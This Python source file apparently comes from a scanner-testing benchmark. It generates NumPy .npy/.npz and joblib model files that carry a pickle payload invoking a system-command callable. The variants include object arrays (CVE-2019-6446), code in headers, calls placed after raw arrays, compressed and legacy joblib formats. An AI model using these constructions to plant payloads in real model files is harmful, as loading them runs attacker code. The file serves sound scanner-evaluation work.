"""NumPy and joblib: object arrays, and calls among raw arrays.

Source: numpy/lib/format.py; joblib/numpy_pickle.py and numpy_pickle_compat.py.
"""

from __future__ import annotations

import struct
import zlib

from bench.scanner_attacks.pickle_forms import SYSTEM
from bench.scanner_attacks.stream import Call, Name, call, push, stream
from bench.scanner_attacks.techniques import SOURCE, Family
from bench.scanner_attacks.zips import Member, archive

FAMILY = Family("NumPy, joblib")
_HOSTILE = stream(SYSTEM, 2)


def npy(header: str, body: bytes, version: int = 1) -> bytes:
    text = header.encode("latin-1") + b"\n"
    size = struct.pack("<H" if version == 1 else "<I", len(text))
    return b"\x93NUMPY" + bytes([version, 0]) + size + text + body


_OBJECTS = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"


@FAMILY("npy-objects", "weights.npy", "CVE-2019-6446")
def _npy_objects() -> bytes:
    return npy(_OBJECTS, _HOSTILE)


@FAMILY("npy-objects-version-3", "weights.npy")
def _npy_version() -> bytes:
    return npy(_OBJECTS, _HOSTILE, 3)


@FAMILY("npy-structured-objects", "weights.npy")
def _npy_structured() -> bytes:
    descr = "[('a', '<f4'), ('b', [('c', '|O')])]"
    return npy(f"{{'descr': {descr}, 'fortran_order': False, 'shape': (1,), }}", _HOSTILE)


@FAMILY("npy-second-array", "weights.npy")
def _npy_second() -> bytes:
    plain = npy("{'descr': '<f4', 'fortran_order': False, 'shape': (1,), }", bytes(4))
    return plain + npy(_OBJECTS, _HOSTILE)


@FAMILY("npy-code-in-header", "weights.npy")
def _npy_header() -> bytes:
    return npy(f"{{'descr': {SOURCE}, 'fortran_order': False, 'shape': (1,), }}", bytes(8))


@FAMILY("npz-objects", "weights.npz")
def _npz_objects() -> bytes:
    plain = npy("{'descr': '<f4', 'fortran_order': False, 'shape': (1,), }", bytes(4))
    return archive(Member("a.npy", plain), Member("b.npy", npy(_OBJECTS, _HOSTILE)))


@FAMILY("npz-member-without-extension", "weights.npz")
def _npz_odd() -> bytes:
    return archive(Member("a", npy(_OBJECTS, _HOSTILE), method=8))


@FAMILY("npz-plain-pickle-member", "weights.npz")
def _npz_pickle() -> bytes:
    return archive(Member("a.npy", _HOSTILE))


def _wrapper(kind: str, shape: tuple[int, ...], *, aligned: bool = True) -> bytes:
    # As joblib pickles it: an instance made without its constructor, then its state.
    state = {
        "subclass": Name("numpy", "ndarray"),
        "shape": shape,
        "order": "C",
        "dtype": call("numpy", "dtype", kind, False, True),
        "allow_mmap": kind != "O8",
        **({"numpy_array_alignment_bytes": 16} if aligned else {}),
    }
    made = push(Name("joblib.numpy_pickle", "NumpyArrayWrapper")) + b")\x81"
    return made + push(state) + b"b"


def _joblib_array(after: bytes, *, aligned: bool = True) -> bytes:
    head = b"\x80\x04(" + _wrapper("f8", (4,), aligned=aligned)
    padding = b""
    if aligned:
        length = 16 - (len(head) + 1) % 16
        padding = bytes([length]) + b"\xff" * length
    return head + padding + bytes(32) + after + b"l."


@FAMILY("joblib-call-after-raw-array", "model.joblib")
def _joblib_after() -> bytes:
    return _joblib_array(push(SYSTEM))


@FAMILY("joblib-call-after-older-raw-array", "model.joblib")
def _joblib_after_older() -> bytes:
    return _joblib_array(push(SYSTEM), aligned=False)


@FAMILY("joblib-object-array", "model.joblib")
def _joblib_objects() -> bytes:
    return b"\x80\x04" + _wrapper("O8", (1,)) + _HOSTILE + b"."


@FAMILY("joblib-compressed", "model.joblib")
def _joblib_packed() -> bytes:
    return zlib.compress(_joblib_array(push(SYSTEM)), 3)


@FAMILY("joblib-old-array-file", "model.joblib")
def _joblib_old() -> dict[str, bytes]:
    wrapper = Call(
        Name("joblib.numpy_pickle_compat", "NDArrayWrapper"),
        (),
        {"filename": "model.joblib_01.npy", "subclass": Name("numpy", "ndarray")},
    )
    return {"model.joblib": stream(wrapper), "model.joblib_01.npy": npy(_OBJECTS, _HOSTILE)}


@FAMILY("joblib-old-zfile", "model.joblib")
def _joblib_zfile() -> bytes:
    return b"ZF" + f"{hex(len(_HOSTILE)):<19}".encode() + zlib.compress(_HOSTILE)
